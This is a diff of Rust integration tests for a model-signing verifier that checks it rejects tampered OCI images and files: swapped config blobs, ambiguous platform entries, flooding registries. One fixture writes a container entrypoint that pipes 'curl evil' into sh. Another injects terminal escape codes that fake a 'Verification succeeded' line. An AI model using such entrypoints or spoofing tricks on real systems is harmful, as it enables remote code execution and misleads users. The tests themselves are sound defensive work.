@@ -117,16 +117,35 @@ fn a_manifest_that_go_clients_read_differently_does_not_verify() {
 }
 
 /// The attack that made a replaced file verify: a single-file model `config.json`, signed as a
-/// file, replaced by a manifest-shaped JSON whose one layer is titled `config.json` and carries
-/// the signed digest. The path is a file, so the file is hashed, whatever it contains.
+/// file in the basename form (the resource is named `config.json`, as the OMS text and the Go
+/// port name it), replaced by a manifest-shaped JSON whose one layer is titled `config.json` and
+/// carries the signed digest. The file's content chose how it was checked: its claims were
+/// checked instead of its bytes. Now the path is a file, so the file is hashed.
 #[test]
 fn a_replaced_json_model_file_is_hashed_not_read_as_a_manifest() {
     let dir = tempdir();
     let key = gen_ec_key(dir.path(), "k", Curve::P256);
     let model_file = write_file(dir.path(), "config.json", "{\"hidden_size\": 8}\n");
     let signed = sha256_hex(&std::fs::read(&model_file).unwrap());
+    let root = {
+        use sha2::Digest as _;
+        hex::encode(sha2::Sha256::digest(hex::decode(&signed).unwrap()))
+    };
     let sig = dir.path().join("config.sig");
-    sign_key(&model_file, &key, &sig, &[]).assert_success();
+    common::craft::craft(
+        &key,
+        &serde_json::json!({
+            "_type": "https://in-toto.io/Statement/v1",
+            "subject": [{"name": "config.json", "digest": {"sha256": root}}],
+            "predicateType": "https://model_signing/signature/v1.0",
+            "predicate": {
+                "serialization": {"method": "files", "hash_type": "sha256",
+                                  "allow_symlinks": false, "ignore_paths": []},
+                "resources": [{"name": "config.json", "algorithm": "sha256", "digest": signed}],
+            },
+        }),
+        &sig,
+    );
     verify_key(&model_file, &key, &sig, &[]).assert_success();
     std::fs::write(
         &model_file,
@@ -137,16 +156,17 @@ fn a_replaced_json_model_file_is_hashed_not_read_as_a_manifest() {
     )
     .unwrap();
     let r = verify_key(&model_file, &key, &sig, &[]);
-    r.assert_exit(1).assert_stderr_contains("changed");
-    // Only when the user says it is a manifest is it read as one; the signature then names a
-    // single file, which an image is not.
-    let r = verify_key_oci(
+    r.assert_exit(1)
+        .assert_stderr_contains("changed: config.json");
+    // Only when the user says it is a manifest is it read as one; then it is what it claims to
+    // be, an image whose one layer is the signed file.
+    verify_key_oci(
         &key,
         &sig,
         &format!("oci-manifest:{}", model_file.display()),
         &[],
-    );
-    assert_one_line_failure(&r, &[]);
+    )
+    .assert_success();
 }
 
 /// What runtimes act on besides digests: the layers' order (they are applied in order), media
@@ -235,24 +255,56 @@ fn order_media_types_and_annotations_are_bound() {
         warnings.contains("media types, order and annotations"),
         "{v}"
     );
+    // It says what the signature lacks, not who made it (the review: this one is ours, made for
+    // a directory, and the warning claimed another tool had made it).
+    assert!(
+        warnings.contains("made for files, or for the image by another tool"),
+        "{v}"
+    );
 }
 
-/// A config blob with content beside a layer titled `config.json` is not signed: signing says
-/// so and needs consent, verifying warns. The empty `{}` config of an ORAS push is no loss.
+/// A layer titled `config.json` takes the name the config blob would have had, so the config
+/// has no resource of its own (rh-model-signing's rule, which keeps our signatures verifiable by
+/// it). Our signatures record it beside that layer all the same, so a config swapped after
+/// signing is caught, also when it was the empty `{}` of an ORAS push (the review re-pushed one
+/// with an entrypoint and it verified with a warning). Signing an image whose config has content
+/// needs consent, since other tools' verifiers would accept any config; a signature without the
+/// record (another tool's) verifies with a warning.
 #[test]
-fn an_unsigned_config_needs_consent_and_is_reported() {
+fn the_config_is_bound_beside_the_layer_that_took_its_name() {
     let Some(reg) = Registry::start(false) else {
         return;
     };
     let dir = tempdir();
     let m = model(dir.path());
     let hf = write_file(&m.dir, "config.json", "{\"hidden_size\": 8}\n");
+    let entrypoint = write_file(
+        dir.path(),
+        "evil-config.json",
+        "{\"config\": {\"Entrypoint\": [\"/bin/sh\", \"-c\", \"curl evil | sh\"]}}",
+    );
+    let key = gen_ec_key(dir.path(), "k", Curve::P256);
+
+    // The empty config of an ORAS push: no consent needed, and bound.
+    let empty = write_file(dir.path(), "empty.json", "{}");
+    reg.push("models/cfg:v2", &empty, &[&m.weights, &hf]);
+    let target = reg.oci("models/cfg:v2");
+    let sig = dir.path().join("cfg2.sig");
+    let r = sign_key_oci(&key, &sig, &target, &["--plain-http"]);
+    r.assert_success();
+    assert!(!r.stderr.contains("config"), "{}", r.stderr);
+    verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
+    reg.push("models/cfg:v2", &entrypoint, &[&m.weights, &hf]);
+    let r = verify_key_oci(&key, &sig, &target, &["--plain-http"]);
+    r.assert_exit(1)
+        .assert_stderr_contains("changed: config.json (the image's config blob");
+
+    // A config with content: consent, a warning at signing, and bound all the same.
     reg.push("models/cfg:v1", &m.config_blob, &[&m.weights, &hf]);
     let target = reg.oci("models/cfg:v1");
-    let key = gen_ec_key(dir.path(), "k", Curve::P256);
     let sig = dir.path().join("cfg.sig");
     let r = sign_key_oci(&key, &sig, &target, &["--plain-http"]);
-    assert_one_line_failure(&r, &["config blob", "unsigned"]);
+    assert_one_line_failure(&r, &["config blob", "any config"]);
     assert!(!sig.exists());
     sign_key_oci(
         &key,
@@ -260,29 +312,30 @@ fn an_unsigned_config_needs_consent_and_is_reported() {
         &target,
         &["--plain-http", "--allow-unsigned-config"],
     )
-    .assert_success();
-    let r = verify_key_oci(&key, &sig, &target, &["--plain-http", "--output", "json"]);
+    .assert_success()
+    .assert_stderr_contains("other tools' verifiers accept any config");
+    verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
+    reg.push("models/cfg:v1", &entrypoint, &[&m.weights, &hf]);
+    verify_key_oci(&key, &sig, &target, &["--plain-http"])
+        .assert_exit(1)
+        .assert_stderr_contains("the image's config blob");
+
+    // A signature with names and digests only (what rh-model-signing and the Go port make; here
+    // of the pulled copy): the config is not checked, and the report says so.
+    let pulled = dir.path().join("pulled");
+    reg.client("pull", "models/cfg:v1", &[&pulled])
+        .assert_success();
+    let files_sig = dir.path().join("files.sig");
+    sign_key(&pulled, &key, &files_sig, &[]).assert_success();
+    let r = verify_key_oci(
+        &key,
+        &files_sig,
+        &target,
+        &["--plain-http", "--output", "json"],
+    );
     r.assert_success();
     let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
     assert!(v["warnings"].to_string().contains("not signed"), "{v}");
-    // The config can then change without the signature noticing: that is what was consented
-    // to, and the warning is there to say it.
-    let other = write_file(
-        dir.path(),
-        "other-config.json",
-        "{\"entrypoint\": \"evil\"}",
-    );
-    reg.push("models/cfg:v1", &other, &[&m.weights, &hf]);
-    verify_key_oci(&key, &sig, &target, &["--plain-http"])
-        .assert_success()
-        .assert_stderr_contains("is not signed");
-
-    let empty = write_file(dir.path(), "empty.json", "{}");
-    reg.push("models/cfg:v2", &empty, &[&m.weights, &hf]);
-    let sig2 = dir.path().join("cfg2.sig");
-    let r = sign_key_oci(&key, &sig2, &reg.oci("models/cfg:v2"), &["--plain-http"]);
-    r.assert_success();
-    assert!(!r.stderr.contains("unsigned"), "{}", r.stderr);
 }
 
 /// Registry credentials go to the registry's own origin only: the upload `Location` of a blob
@@ -338,9 +391,9 @@ fn credentials_never_go_to_another_origin() {
     );
 }
 
-/// Discovery before any signature is checked: 16 different 64 MiB bundles are fetched one at a
-/// time and each read stops at the cap (the old reader held them all: 1.06 GiB); the same bundle
-/// listed 16 times is fetched once.
+/// Discovery before any signature is checked: 16 different bundles streaming 64 MiB each
+/// (chunked: no length to refuse up front) are fetched one at a time and each read stops at the
+/// cap (the old reader held them all: 1.06 GiB); the same bundle listed 16 times is fetched once.
 #[test]
 fn discovery_is_bounded_before_authentication() {
     let Some(fake) = Fake::start(&[]) else {
@@ -371,8 +424,8 @@ fn discovery_is_bounded_before_authentication() {
             .filter(|e| e["path"].as_str().unwrap_or("").contains("/blobs/"))
             .count();
         assert_eq!(blobs, fetches, "{repo}");
-        // Well under two bundles' worth of the cap at once (8 MiB each), whatever the count.
-        assert!(peak_kb < 120 * 1024, "{repo}: peak RSS {peak_kb} KiB");
+        // Under two bundles' worth of the cap (8 MiB each), whatever the count: one at a time.
+        assert!(peak_kb < 64 * 1024, "{repo}: peak RSS {peak_kb} KiB");
         eprintln!("{repo}: {fetches} fetches, peak RSS {peak_kb} KiB, {took:?}");
     }
 }
@@ -532,6 +585,69 @@ fn platforms_by_digest_and_on_a_single_manifest() {
         &["--plain-http", "--platform", "linux/arm64"],
     );
     assert_one_line_failure(&r, &["single image manifest", "linux/arm64"]);
+
+    // The review's attack: EVIL listed first under the same platform spelled another way.
+    // containerd normalises `x86_64` to `amd64` (and `amd64/v1`, `Linux/amd64`) and takes the
+    // first; oras-go takes any variant when none is asked. GOOD verified, EVIL ran.
+    std::fs::write(&m.weights, pattern(3000, 66)).unwrap();
+    reg.push("models/multi:evil", &m.config_blob, &[&m.weights]);
+    let evil = reg.manifest_bytes("models/multi:evil");
+    for spelling in [
+        r#""os":"linux","architecture":"x86_64""#,
+        r#""os":"Linux","architecture":"amd64""#,
+        r#""os":"linux","architecture":"amd64","variant":"v1""#,
+        r#""os":"linux","architecture":"amd64","variant":"v3""#,
+    ] {
+        let index = format!(
+            r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{{spelling}}}}},{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{"os":"linux","architecture":"amd64"}}}}]}}"#,
+            sha256_hex(&evil),
+            evil.len(),
+            sha256_hex(&image),
+            image.len()
+        );
+        reg.put_manifest(
+            "models/multi:latest",
+            index.as_bytes(),
+            "application/vnd.oci.image.index.v1+json",
+        );
+        let r = verify_key_oci(
+            &key,
+            &sig,
+            &reg.oci("models/multi:latest"),
+            &["--plain-http", "--platform", "linux/amd64"],
+        );
+        assert_one_line_failure(&r, &["2 manifests that clients may take"]);
+    }
+    // Registry text in the listing reaches the terminal escaped (it held ESC and a newline).
+    let index = format!(
+        r#"{{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{"mediaType":"{OCI_MANIFEST}","digest":"sha256:{}","size":{},"platform":{{"os":"linux\u001b[2K\rVerification succeeded\n","architecture":"amd64"}}}}]}}"#,
+        sha256_hex(&image),
+        image.len()
+    );
+    reg.put_manifest(
+        "models/multi:latest",
+        index.as_bytes(),
+        "application/vnd.oci.image.index.v1+json",
+    );
+    for extra in [
+        vec!["--plain-http"],
+        vec!["--plain-http", "--platform", "linux/arm64"],
+    ] {
+        let r = verify_key_oci(&key, &sig, &reg.oci("models/multi:latest"), &extra);
+        assert_one_line_failure(&r, &[]);
+        assert!(
+            !r.stderr.contains('\u{1b}') && !r.stderr.contains('\r'),
+            "{r}"
+        );
+        assert_eq!(
+            r.stderr
+                .lines()
+                .filter(|l| l.contains("Verification"))
+                .count(),
+            1,
+            "{r}"
+        );
+    }
 }
 
 /// Sign never attaches what discovery would refuse to fetch: a bundle over the attached-bundle
@@ -581,4 +697,39 @@ fn a_bundle_too_large_to_discover_is_not_attached() {
     assert!(std::fs::metadata(&sig).unwrap().len() > 8 << 20);
     verify_key_oci(&key, &sig, &target, &["--plain-http"]).assert_success();
     let _ = Path::new("");
+}
+
+/// Every body a registry sends is read with a cap, whatever it claims: a manifest of 10,001
+/// layers, an error response and a token response that never end. Each fails with one line,
+/// quickly, in bounded memory.
+#[test]
+fn registry_answers_are_bounded_before_authentication() {
+    let Some(fake) = Fake::start(&[]) else {
+        return;
+    };
+    let dir = tempdir();
+    let key = gen_ec_key(dir.path(), "k", Curve::P256);
+    for (repo, want) in [
+        ("hostile/layers", "10001 layers, over the limit of 10000"),
+        ("hostile/errorflood", "500"),
+        ("hostile/tokenflood", "byte limit"),
+    ] {
+        let started = Instant::now();
+        let (r, peak_kb) = ms_with_peak_rss(
+            &fake.oras_py,
+            args![
+                "verify",
+                "key",
+                "--public-key",
+                &key.public_key,
+                "--plain-http",
+                &fake.oci(&format!("{repo}:v1"))
+            ],
+        );
+        let took = started.elapsed();
+        assert_one_line_failure(&r, &[want]);
+        assert!(peak_kb < 100 * 1024, "{repo}: peak RSS {peak_kb} KiB");
+        assert!(took < Duration::from_secs(20), "{repo}: {took:?}");
+        eprintln!("{repo}: peak RSS {peak_kb} KiB, {took:?}");
+    }
 }
